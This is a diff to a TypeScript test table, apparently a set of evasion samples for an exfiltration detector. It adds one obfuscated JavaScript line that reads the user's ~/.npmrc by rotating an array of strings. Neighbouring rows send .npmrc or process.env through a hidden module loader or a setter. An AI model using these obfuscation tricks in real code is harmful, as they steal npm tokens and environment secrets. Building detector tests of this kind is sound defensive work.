@@ -375,6 +375,10 @@ const CHANNELS: readonly Row[] = [
     'a function that loads by the loader behind',
     "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
+  [
+    'strings of a list that a count turns',
+    "const a=['/.npmrc','readFileSync','fs','homedir','os'];(function(l,n){while(--n)l.push(l.shift())})(a,3);const s=(i)=>a[(i+1)%5];const k=require(s(4))[s(3)](require(s(1))[s(0)]()+s(2));SEND«k»",
+  ],
   ['a setter', 'const o={set sink(v){SEND«JSON.stringify(v)»}};o.sink=process.env'],
   [
     'names that are symbols',
